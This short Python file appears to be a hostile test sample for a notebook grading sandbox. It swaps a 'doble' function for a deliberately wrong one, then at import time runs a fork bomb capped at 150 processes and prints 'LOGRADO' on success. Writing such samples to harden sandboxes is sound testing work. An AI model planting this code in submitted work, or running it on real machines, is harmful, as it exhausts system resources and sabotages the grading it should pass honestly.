"""A fork bomb that stops at 150 processes of 20 seconds.

id: forks-without-end
notebook: tp
replaces: doble
loses: prueba_doble
"""


def doble(x):
    return x + 1


# ATTACK
import os
import time

_hijos, _hasta = 0, time.monotonic() + 10
while _hijos < 150 and time.monotonic() < _hasta:
    try:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
    except OSError as error:
        print(repr(error))
        break
    _hijos += 1
if _hijos >= 150:
    print("LOGRADO: started", _hijos, "processes")
